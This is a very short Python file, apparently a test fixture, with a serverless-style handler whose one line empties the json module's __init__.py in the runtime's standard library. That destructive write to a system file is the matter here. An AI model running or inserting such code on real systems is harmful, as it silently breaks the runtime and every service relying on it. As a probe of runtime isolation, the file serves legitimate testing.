"""Changes the standard library."""


def handler(event, context):
    open("/var/lang/lib/python3.13/json/__init__.py", "w").close()
